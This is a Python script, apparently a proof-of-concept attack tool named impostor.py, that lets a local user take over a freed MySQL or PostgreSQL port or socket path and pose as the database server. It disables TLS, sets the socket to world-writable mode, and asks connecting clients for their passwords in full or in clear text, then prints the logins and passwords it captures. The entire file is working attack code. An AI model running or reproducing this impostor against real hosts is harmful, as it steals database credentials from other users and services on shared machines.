# A user of this host takes the place of a server, a port or the path of a socket, as soon as it is free, and
# asks for the password: impostor.py mysql|postgres PORT|PATH. It ends when its standard input does, and prints what it was sent.
import os, socket, struct, sys, threading, time

kind, place = sys.argv[1:]
nonce = b"A" * 8 + b"B" * 12


def bind_to_device(server):
    try:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")  # hides it from others
    except PermissionError:
        pass  # a kernel before 5.7


def listener():
    while True:
        try:
            if place.startswith("/"):
                server = socket.socket(socket.AF_UNIX)
                server.bind(place)
                os.chmod(place, 0o777)
            else:
                server = socket.socket()
                server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                bind_to_device(server)
                server.bind(("127.0.0.1", int(place)))
            server.listen(50)
            return server
        except OSError:
            time.sleep(0.001)


def whole(stream, length):
    found = b""
    while len(found) < length:
        more = stream.recv(length - len(found))
        if not more:
            raise EOFError
        found += more
    return found


def packet(stream):
    header = whole(stream, 4)
    return header[3], whole(stream, header[0] | header[1] << 8 | header[2] << 16)


def send(stream, number, payload):
    stream.sendall(struct.pack("<I", len(payload))[:3] + bytes([number]) + payload)


def mysql(stream):
    flags = 0x81BFF7DF & ~0x800  # without TLS
    greeting = b"\x0a8.0.33\0" + struct.pack("<I", 5) + nonce[:8] + b"\0" + struct.pack("<H", flags & 0xFFFF)
    greeting += b"\x2d" + struct.pack("<HH", 2, flags >> 16) + b"\x15" + b"\0" * 10 + nonce[8:] + b"\0"
    send(stream, 0, greeting + b"caching_sha2_password\0")
    number, login = packet(stream)
    print("login", login[32:60], flush=True)
    send(stream, number + 1, b"\x01\x04")  # asks for all of the password
    number, answer = packet(stream)
    print("PASSWORD, or a request for a key to encrypt it with:", answer[:40], flush=True)


def postgres(stream):
    message = whole(stream, struct.unpack("!I", whole(stream, 4))[0] - 4)
    if message[:4] == struct.pack("!I", 80877103):
        stream.sendall(b"N")
        message = whole(stream, struct.unpack("!I", whole(stream, 4))[0] - 4)
    if message[:4] == struct.pack("!I", 80877102):
        return  # a request to cancel
    print("login", message[4:40], flush=True)
    stream.sendall(b"R" + struct.pack("!II", 8, 3))  # asks for it in clear text
    whole(stream, 1)
    print("PASSWORD", whole(stream, struct.unpack("!I", whole(stream, 4))[0] - 4), flush=True)


def serve():
    server = listener()
    print("bound as user", os.getuid(), flush=True)
    while True:
        stream, _ = server.accept()
        print("connected", flush=True)
        stream.settimeout(3)
        try:
            mysql(stream) if kind == "mysql" else postgres(stream)
        except (OSError, EOFError, struct.error) as error:
            print("left:", repr(error), flush=True)
        stream.close()


threading.Thread(target=serve, daemon=True).start()
sys.stdin.read()
if place.startswith("/"):
    os.unlink(place)
